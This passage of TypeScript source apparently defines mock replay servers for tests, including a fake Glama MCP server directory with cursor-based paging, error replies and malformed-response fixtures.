      const link = (p: number, rel: string) => {
        const next = new URL(url.pathname + url.search, base);
        next.searchParams.set('page', String(p));
        return `<${next.href}>; rel="${rel}"`;
      };
      const links = [
        ...(page > 1 ? [link(page - 1, 'prev'), link(1, 'first')] : []),
        ...(page < lastPage ? [link(page + 1, 'next'), link(lastPage, 'last')] : []),
      ];
      return json(200, { total_count: found.length, incomplete_results: false, items }, { ...rateHeaders, ...(links.length ? { link: links.join(', ') } : {}) });
    },
  };
  return startReplay(service, {});
}

// ---------------------------------------------------------------------------------------
// Glama directory

/** Glama's opaque cursor (base64 JSON, like its own `{"createdAt":…,"id":…}`). */
const glamaCursor = (server: GlamaServer) => Buffer.from(JSON.stringify({ id: server.id })).toString('base64');

/** A running Glama replay. */
export type GlamaReplay = ReplayServer;

/**
 * Serves Glama's `GET /v1/servers?query=&first=&after=` (cursor paging: `pageInfo` with
 * start/end cursors and has-next/previous; `first` defaults to 10, at most 100), the
 * deprecated `GET /v1/servers/{id}` and `GET /v1/servers/{namespace}/{slug}` over `servers`.
 */
export function startGlama(options: { servers?: GlamaServer[] } = {}): Promise<GlamaReplay> {
  const servers = options.servers ?? loadGlamaServers();
  const error = (code: string, text: string) => ({ error: { code, message: text } });

  const list = (query: URLSearchParams): Reply => {
    const firstText = query.get('first');
    const first = firstText === null || firstText === '' ? 10 : Number(firstText);
    if (!Number.isInteger(first) || first < 1 || first > 100) return json(400, error('invalid_request', 'querystring/first must be an integer from 1 to 100'));
    const words = (query.get('query') ?? '').toLowerCase().split(/\s+/).filter(Boolean);
    const found = servers.filter((s) => words.every((w) => `${s.name} ${s.namespace} ${s.slug} ${s.description}`.toLowerCase().includes(w)));
    const after = query.get('after');
    let start = 0;
    if (after) {
      const index = found.findIndex((s) => glamaCursor(s) === after);
      if (index < 0) return json(400, error('invalid_request', 'Invalid cursor'));
      start = index + 1;
    }
    const page = found.slice(start, start + first);
    const pageInfo = {
      startCursor: page[0] ? glamaCursor(page[0]) : null,
      endCursor: page.at(-1) ? glamaCursor(page.at(-1)!) : null,
      hasNextPage: start + first < found.length,
      hasPreviousPage: start > 0,
    };
    return json(200, { pageInfo, servers: page });
  };

  const service: Service = {
    listKey: 'servers',
    keep: new Set(['id']),
    wrongShapes: [
      { pageInfo: null, servers: null },
      { pageInfo: { hasNextPage: 'yes' }, servers: { id: 'x' } },
      [],
      { pageInfo: { hasNextPage: true, endCursor: null, startCursor: null, hasPreviousPage: false }, servers: [null, 1, { id: 42, tools: 'none' }] },
      { data: { servers: [] } },
    ],
    error: (status, text) => error(status === 401 ? 'unauthorized' : status === 404 ? 'not_found' : status < 500 ? 'invalid_request' : 'internal_server_error', text),
    handle({ method, url }) {
      let parts: string[];
      try {
        parts = url.pathname.split('/').map((part) => decodeURIComponent(part));
      } catch {
        return json(400, error('invalid_request', 'Malformed path'));
      }
      if (method !== 'GET' || parts[1] !== 'v1' || parts[2] !== 'servers' || parts.length > 5) return json(404, error('not_found', `Route ${method}:${url.pathname} not found`));
      if (parts.length === 3) return list(url.searchParams);
      const found = parts.length === 4 ? servers.find((s) => s.id === parts[3]) : servers.find((s) => s.namespace === parts[3] && s.slug === parts[4]);
      return found ? json(200, found) : json(404, error('not_found', 'MCP server not found'));
    },
  };
  return startReplay(service, {});
}
